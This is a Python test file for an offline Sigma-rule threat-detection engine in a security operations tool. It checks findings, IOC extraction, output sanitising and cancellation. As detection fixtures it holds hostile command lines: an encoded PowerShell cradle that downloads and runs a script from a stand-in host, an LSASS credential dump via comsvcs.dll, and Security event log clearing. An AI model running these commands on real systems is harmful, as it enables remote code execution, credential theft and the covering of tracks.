from __future__ import annotations

import asyncio
import base64
import dataclasses
import re
import time
from decimal import Decimal
from pathlib import Path

import pytest

from soc_tui.analysts import HuntTask, Notice, PreparedHunt
from soc_tui.analysts.offline import OfflineAnalyst, run_rules
from soc_tui.analysts.offline.sigma.matching import RuleMatcher
from soc_tui.analysts.offline.sigma.rule import Rule
from soc_tui.analysts.offline.sigma.rule_library import RuleLibrary
from soc_tui.analysts.offline.sigma.rulebook import Rulebook
from soc_tui.model.finding import Finding, Ioc, Severity
from soc_tui.model.quote import Usage
from soc_tui.model.rows import Rows
from tests.analysts.offline.sigma.rows_by_hand import book_of, make_rows, rule_text

PROCESS = "DeviceProcessEvents"
SCRIPT = "IEX((New-Object Net.WebClient).DownloadString('https://bad.example.net/a'))"
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()


def process(line: str, **more: object) -> dict[str, object]:
    return {
        "DeviceName": "pc-1",
        "FileName": "x.exe",
        "FolderPath": r"C:\Program Files\x.exe",
        "ProcessCommandLine": line,
        "InitiatingProcessFileName": "explorer.exe",
        "InitiatingProcessId": 7,
        "AccountName": "ann",
        "SHA256": "a" * 64,
        **more,
    }


def found(rows: Rows, table: str = PROCESS, book: Rulebook | None = None) -> list[Finding]:
    return [one for one in run_rules(rows, table, book) if isinstance(one, Finding)]


def test_an_office_macro_is_found_and_grounded() -> None:
    line = f"powershell.exe -NoP -Enc {ENCODED}"
    rows = make_rows(
        [process("x.exe"), process(line, FileName="powershell.exe",
                                   InitiatingProcessFileName="WINWORD.EXE")]
    )  # fmt: skip
    findings = found(rows)
    titles = [finding.title for finding in findings]
    assert "Office program starts a script interpreter: pc-1" in titles
    assert all(finding.grounded and finding.evidence for finding in findings)
    encoded = next(one for one in findings if one.title.startswith("Encoded PowerShell"))
    assert [citation.row_id for citation in encoded.evidence] == ["r2"]
    assert SCRIPT in encoded.description
    assert encoded.mitre[0].id == "T1059.001" and encoded.mitre[0].tactic == "Execution"
    assert encoded.recommendations and encoded.notes
    assert "offline" in encoded.tags


def test_hits_are_one_finding_per_host_and_the_worst_rules_come_first() -> None:
    dump = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\x.dmp full"
    rows = make_rows(
        [
            process("7z.exe a -pabc x.7z", FileName="7z.exe"),
            process(dump, DeviceName="pc-2"),
            process(dump, DeviceName="PC-2"),
            process(dump, DeviceName="pc-3"),
        ]
    )
    findings = found(rows)
    dumps = [one for one in findings if one.title.startswith("LSASS memory")]
    assert [len(one.evidence) for one in dumps] == [2, 1]
    assert findings[0].severity is Severity.CRITICAL
    assert findings[-1].title.startswith("Password-protected archive created")


def test_the_same_on_many_hosts_is_one_finding_with_the_hosts_counted() -> None:
    rows = make_rows(
        [process("wevtutil.exe cl Security", FileName="wevtutil.exe", DeviceName=f"pc-{i % 70}")
         for i in range(140)]
    )  # fmt: skip
    (cleared,) = [one for one in found(rows) if one.title.startswith("Event log cleared")]
    assert cleared.title == "Event log cleared: 70 hosts"
    assert "140 rows match" in cleared.description and cleared.grounded
    assert "Hosts: pc-0, pc-1" in cleared.description and "and 58 more" in cleared.description
    assert len(cleared.evidence) == 20


def test_at_most_twenty_rows_are_cited_and_the_number_is_said() -> None:
    rows = make_rows([process(f"wevtutil.exe cl Log{i % 50}", FileName="wevtutil.exe")
                      for i in range(300)])  # fmt: skip
    (finding,) = [one for one in found(rows) if one.title.startswith("Event log cleared")]
    assert len(finding.evidence) == 20
    assert "300 rows match, from 2026-11-20 08:00:00 UTC to 2026-11-20 12:59:00 UTC." in (
        finding.description
    )
    assert finding.grounded


def test_indicators_stand_in_the_rows_and_are_external() -> None:
    rows = make_rows(
        [
            {
                "DeviceName": "pc-1",
                "ActionType": "ConnectionSuccess",
                "InitiatingProcessFileName": "evil.exe",
                "InitiatingProcessFolderPath": r"C:\Users\Public\evil.exe",
                "RemoteIP": ip,
                "RemoteIPType": "Public",
                "RemoteUrl": "https://c2.example.net/x",
                "RemotePort": 443,
            }
            for ip in ("203.0.113.9", "10.0.0.1")
        ]
    )
    finding = found(rows, "DeviceNetworkEvents")[0]
    assert Ioc("ip", "203.0.113.9") in finding.iocs
    assert Ioc("domain", "c2.example.net") in finding.iocs
    assert Ioc("url", "https://c2.example.net/x") in finding.iocs
    assert all(ioc.value != "10.0.0.1" for ioc in finding.iocs)
    assert finding.grounded


def test_system_programs_are_no_indicators() -> None:
    rows = make_rows(
        [process("wevtutil.exe cl Security", FileName="wevtutil.exe", AccountName="SYSTEM",
                 FolderPath=r"C:\Windows\System32\wevtutil.exe")]
    )  # fmt: skip
    assert found(rows)[0].iocs == ()


def test_hostile_cells_come_out_harmless_and_grounded() -> None:
    line = "\x1b[2J\x1b]0;x\x07[bold red]wevtutil cl Security\u202e" + "A" * 1_000_000
    rows = make_rows([process(line, FileName="wevtutil.exe", DeviceName="pc\x1b[1m")])
    for finding in found(rows):
        text = finding.title + finding.description + finding.notes
        text += "".join(q.text for one in finding.evidence for q in one.quotations)
        assert "\x1b" not in text and "\u202e" not in text
        assert len(text) < 20_000
        assert finding.grounded
    assert any("Terminal control" in one.title for one in found(rows))


def notices(rows: Rows, table: str) -> list[str]:
    return [one.message for one in run_rules(rows, table) if isinstance(one, Notice)]


def test_rules_without_their_columns_are_told_by_name_and_the_others_run() -> None:
    rows = make_rows([{"DeviceName": "pc", "ProcessCommandLine": "x AmsiScanBuffer"}])
    (notice,) = notices(rows, PROCESS)
    left, total = map(int, re.findall(r"\d+", notice)[:2])
    assert 0 < left < total == len(RuleLibrary().load().for_table(PROCESS, own=True))
    assert "cannot run: the rows lack" in notice and "FileName" in notice
    assert re.search(r"Not run: [A-Z].*; .* and \d+ more\.", notice)
    assert [one.title for one in found(rows)] == ["AMSI or event tracing patched: pc"]


def test_counted_rows_say_that_no_rule_of_the_table_can_run() -> None:
    (notice,) = notices(make_rows([{"DeviceName": "pc", "count_": 7}]), PROCESS)
    total = len(RuleLibrary().load().for_table(PROCESS, own=True))
    assert notice.startswith(f"{total} of {total} rules for {PROCESS} cannot run")


def test_rows_of_a_join_are_told_by_their_columns_and_it_is_said_so() -> None:
    rows = make_rows([{"RegistryKey": "x", "FileName": "y"}])
    assert "look like DeviceRegistryEvents" in notices(rows, "")[0]


def test_rows_of_no_table_and_of_one_without_rules_are_said() -> None:
    book = RuleLibrary().load()
    anywhere = len(book.for_table("any"))
    (unknown,) = notices(make_rows([{"Whatever": "x"}]), "")
    others = sum(not rule.silent for rule in book.rules) - anywhere
    assert f"only the {anywhere} rules for any table run, the other {others} cannot" in unknown
    (without,) = notices(make_rows([{"Version": "x"}]), "Heartbeat")
    assert "no rules for Heartbeat" in without


def test_the_table_is_told_by_the_columns() -> None:
    rows = make_rows([{"UserPrincipalName": f"u{i}@b.example", "IPAddress": "203.0.113.9",
                       "ResultType": "50126"} for i in range(12)])  # fmt: skip
    titles = [one.title for one in found(rows, table="")]
    assert "Password spray from one address: 203.0.113.9" in titles


def test_rows_of_no_known_table_and_no_rows_at_all() -> None:
    assert found(make_rows([{"Whatever": "x"}]), table="") == []
    one = make_rows([process("wevtutil.exe cl Security", FileName="wevtutil.exe")])
    assert found(one, "NoSuchTable") == []
    assert found(dataclasses.replace(one, table=one.table.slice(0, 0))) == []


def test_a_rule_that_cannot_run_is_a_notice_and_the_rest_runs(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    bad = rule_text("  s: {FileName: y.exe}\n  condition: s", title="Bad")
    good = rule_text("  s: {FileName: x.exe}\n  condition: s", title="Good").replace("0d11", "0d12")
    real = RuleMatcher.hits

    def failing(self: RuleMatcher, rule: Rule) -> list[int]:
        if rule.title == "Bad":
            self._con.execute("SELECT nothing FROM nowhere")
        return real(self, rule)

    monkeypatch.setattr(RuleMatcher, "hits", failing)
    answers = list(run_rules(make_rows([process("x")]), PROCESS, book_of(f"{bad}---\n{good}")))
    assert any(isinstance(one, Notice) and "Bad" in one.message for one in answers)
    assert [one.title for one in answers if isinstance(one, Finding)] == ["Good: pc-1"]


async def prepared(
    rows: Rows, rules_dir: Path | None = None, cap: int | None = None
) -> PreparedHunt:
    analyst = OfflineAnalyst(RuleLibrary(rules_dir))
    return await analyst.prepare(HuntTask("r", "k", PROCESS, rows, cap))


async def test_the_quote_is_free_and_passes_on_what_is_unseen() -> None:
    rows = dataclasses.replace(make_rows([process("x")]), partial="cut at 100 MB")
    quote = (await prepared(rows, cap=1)).quote
    assert (quote.model, quote.price, quote.free, quote.tokens_in) == (
        "offline",
        Decimal(0),
        True,
        0,
    )
    assert (quote.unseen.rows_total, quote.unseen.rows_sent) == (1, 1)
    assert quote.unseen.partial == "cut at 100 MB" and quote.unseen.row_cap == 1
    assert "No model is used" in quote.reason and PROCESS in quote.reason


async def test_run_gives_findings_then_a_usage_of_nothing(tmp_path: Path) -> None:
    (tmp_path / "broken.yml").write_text("title: [", "utf-8")
    rows = make_rows([process("wevtutil.exe cl Security", FileName="wevtutil.exe")])
    hunt = await prepared(rows, tmp_path)
    answers = [one async for one in hunt.run()]
    assert isinstance(answers[0], Notice) and "broken.yml" in answers[0].message
    assert any(isinstance(one, Finding) for one in answers)
    usage = answers[-1]
    assert isinstance(usage, Usage)
    assert (usage.price, usage.calls, usage.tokens_in) == (Decimal(0), 0, 0)


async def test_cancelling_stops_within_a_moment(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = make_rows([process(f"line {i}") for i in range(50)])
    hunt = await prepared(rows)
    started, real = asyncio.Event(), RuleMatcher.hits
    loop = asyncio.get_running_loop()
    ran: list[Rule] = []

    def slow(self: RuleMatcher, rule: Rule) -> list[int]:
        ran.append(rule)
        loop.call_soon_threadsafe(started.set)
        self._con.execute("SELECT count(*) FROM range(100000000000) a, range(1000) b").fetchall()
        return real(self, rule)

    monkeypatch.setattr(RuleMatcher, "hits", slow)

    async def consume() -> None:
        async for _ in hunt.run():
            pass

    task = asyncio.create_task(consume())
    await asyncio.wait_for(started.wait(), 10)
    begin = time.monotonic()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert time.monotonic() - begin < 3
    assert len(ran) == 1


def test_an_interrupt_that_comes_when_all_is_over_is_none() -> None:
    matcher = RuleMatcher(make_rows([process("cmd.exe")]))
    matcher.close()
    matcher.interrupt()


async def test_the_loop_keeps_running_while_rules_run() -> None:
    rows = make_rows([process(f"cmd.exe /c echo {i}") for i in range(5_000)])
    hunt = await prepared(rows)
    ticks = 0

    async def tick() -> None:
        nonlocal ticks
        while True:
            await asyncio.sleep(0.005)
            ticks += 1

    ticker = asyncio.create_task(tick())
    async for _ in hunt.run():
        pass
    ticker.cancel()
    assert ticks > 5
